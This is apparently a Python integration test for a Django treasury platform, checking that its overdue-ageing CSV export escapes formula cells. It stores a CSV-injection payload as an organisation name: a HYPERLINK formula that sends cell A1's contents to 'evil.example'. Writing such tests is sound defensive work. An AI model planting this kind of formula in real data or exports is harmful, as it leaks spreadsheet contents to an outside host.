"""Every CSV the platform writes neutralises formula cells (CSV injection), e.g. an
organisation whose name is a HYPERLINK formula in the overdue ageing CSV."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest

from tests.integration.treasury.test_overdue import purchased, staff_client, staff_user
from urikake.applicants.models import Organization
from urikake.treasury.policy import client_code

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"株式会社デモ運送")'


def test_ageing_csv_quotes_a_formula_organisation_name(django_user_model: Any) -> None:
    late = purchased("three_party")
    Organization.objects.filter(pk=late.organization_id).update(name=EVIL)
    as_of = late.expected_on + timedelta(days=45)
    client = staff_client(staff_user(django_user_model, "t@staff.example"))
    response = client.get(f"/backoffice/treasury/overdue/ageing.csv?as_of={as_of:%Y-%m-%d}")
    assert response.status_code == 200
    body = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    row = next(r for r in rows if r[0] == "顧客" and r[1] == client_code(late.organization_id))
    assert row[2] == "'" + EVIL
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
